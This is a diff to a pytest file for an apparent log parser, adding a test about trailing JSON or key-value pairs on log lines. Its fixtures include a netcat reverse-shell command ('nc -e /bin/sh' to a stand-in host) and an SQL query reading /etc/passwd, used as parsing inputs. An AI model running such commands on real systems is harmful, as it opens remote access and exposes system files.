@@ -67,6 +67,14 @@ def test_what_somebody_gave_says_no_command(text):
     assert found.action != "command" and found.kind != "web" and COMMAND not in found.focus
 
 
+@pytest.mark.parametrize("before, end", [
+    ("ann@db7:~$ nc -e /bin/sh gate7 4444 #", '{"cmd":"ls -la"}'), (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'x {"cmd":"ls -la"}'),
+    (f"2026-11-27 10:11:12 INFO 192.0.2.7 GET {ATTACK} 200", 'cmd: "ls -la /home"'), ("2026-11-27 10:11:12 INFO query: SELECT load_file('/etc/passwd') FROM a", '{"cmd":"ls -la"}'),
+])
+def test_an_object_or_a_pair_at_the_end_of_a_line_is_not_what_happened(before, end):
+    assert read(f"{before} {end}").template.startswith(read(before).template.rpartition(" ")[0][:40])
+
+
 def test_a_device_that_names_both_ends_tells_more_than_a_request():
     found = read("time=1 url=http://shop.example/a status=200 srcip=192.0.2.7 dstip=198.51.100.7")
     assert found.kind == "keyvalue" and "from" in found.template
